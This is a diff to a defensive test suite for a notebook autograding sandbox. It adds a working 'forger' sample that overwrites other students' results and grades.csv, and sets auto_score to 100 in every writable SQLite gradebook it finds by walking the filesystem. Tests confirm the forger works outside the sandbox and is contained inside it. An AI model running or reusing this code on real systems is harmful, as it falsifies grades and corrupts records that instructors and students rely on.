@@ -10,6 +10,7 @@ import csv
 import json
 import os
 import re
+import sqlite3
 import sys
 import time
 
@@ -231,28 +232,60 @@ def test_the_thief_would_succeed_outside_the_sandbox(tmp_path):
     assert namespace["conv_output_size"](32, 5) == 28
 
 
+FORGE = """
+import json, os, sqlite3
+
+def forge(out, top):
+    \"\"\"Write zeros over the control's result, grades.csv and its own result in OUT, and full marks into every
+    database under `top` it may write to (not the read-only mounts, which it could not change; links not followed).
+    Returns what it changed.\"\"\"
+    changed = []
+    for target in [out + "/.results/ASSIGNMENT/control.json", out + "/grades.csv",
+                   out + "/.results/ASSIGNMENT/write-gradebook.json"]:
+        try:
+            os.makedirs(os.path.dirname(target), exist_ok=True)
+            with open(target, "w") as f:
+                f.write(FORGED)
+            changed.append(target)
+        except OSError:
+            pass
+    read_only = {"/proc", "/sys"} | {line.split()[4] for line in open("/proc/self/mountinfo")
+                                     if "ro" in line.split()[5].split(",")}
+    for folder, subfolders, files in os.walk(top):
+        subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in read_only]
+        for name in files:
+            if name.endswith(".db"):
+                try:
+                    with sqlite3.connect(os.path.join(folder, name)) as con:
+                        con.execute("UPDATE grade SET auto_score = 100")
+                    changed.append(os.path.join(folder, name))
+                except Exception:
+                    pass
+    return changed
+""".replace("ASSIGNMENT", ASSIGNMENT).replace("FORGED", repr(json.dumps(
+    {"student": "control", "assignment": ASSIGNMENT, "notebooks": {ASSIGNMENT: {"score": 0.0}}})))
+
+
 def write_gradebook(nb, out):
+    """Forge results and gradebooks: in OUT, and in every place of the sandbox where it may write."""
     wrong(nb, "conv_param_count")
-    forged = {"student": "control", "assignment": ASSIGNMENT, "notebooks": {ASSIGNMENT: {"score": 0.0}}}
-    nb.cells.append(free_cell(f"""
-import glob, json, os, sqlite3
-out = {str(out)!r}
-for target in [out + "/.results/{ASSIGNMENT}/control.json", out + "/grades.csv",
-               out + "/.results/{ASSIGNMENT}/write-gradebook.json"]:
-    try:
-        os.makedirs(os.path.dirname(target), exist_ok=True)
-        with open(target, "w") as f:
-            f.write({json.dumps(json.dumps(forged))})
-    except OSError:
-        pass
-for db in glob.glob(out + "/**/*.db", recursive=True) + glob.glob("/**/gradebook.db", recursive=True):
-    try:
-        con = sqlite3.connect(db)
-        con.execute("UPDATE grade SET auto_score = 100")
-        con.commit()
-    except Exception:
-        pass
-"""))
+    nb.cells.append(free_cell(FORGE + f"print('changed:', forge({str(out)!r}, '/'))"))
+
+
+def test_the_forger_would_succeed_outside_the_sandbox(tmp_path):
+    """The write-gradebook case is a real threat: given OUT and a gradebook it can reach, it changes both."""
+    with sqlite3.connect(tmp_path / "gradebook.db") as con:
+        con.execute("CREATE TABLE grade (id TEXT, auto_score FLOAT)")  # nbgrader's table, as far as the forger cares
+        con.execute("INSERT INTO grade VALUES ('test_conv_param_count', 0)")
+    namespace = {}
+    exec(FORGE, namespace)
+    out = tmp_path / "out"
+    changed = namespace["forge"](str(out), str(tmp_path))
+    assert str(tmp_path / "gradebook.db") in changed and (out / "grades.csv").exists()
+    assert json.loads((out / ".results" / ASSIGNMENT / "control.json").read_text())["notebooks"] == {
+        ASSIGNMENT: {"score": 0.0}}
+    with sqlite3.connect(tmp_path / "gradebook.db") as con:
+        assert con.execute("SELECT auto_score FROM grade").fetchall() == [(100,)]
 
 
 def network(nb):
@@ -445,6 +478,15 @@ def test_no_forged_results_and_nothing_left_running(hostile):
     assert len(rows) == len(CASES) + 1
     assert not processes_of(hostile["label"])  # of this run: the sleeper, the forks, the sandboxes all gone
 
+
+
+def test_the_forger_ran_to_its_end(hostile):
+    """The write-gradebook case walked the whole sandbox and finished: its forgeries missed because OUT and the
+    gradebooks were out of its reach, not because its cell ran out of time."""
+    path = hostile["out"] / "autograded" / "write-gradebook" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    (forger,) = [c for c in nbformat.read(path, as_version=4).cells if "def forge(" in c.source]
+    assert [o.output_type for o in forger.outputs] == ["stream"], forger.outputs
+    assert forger.outputs[0].text.startswith("changed:"), forger.outputs
 
 SABOTEUR = """
 import os, time
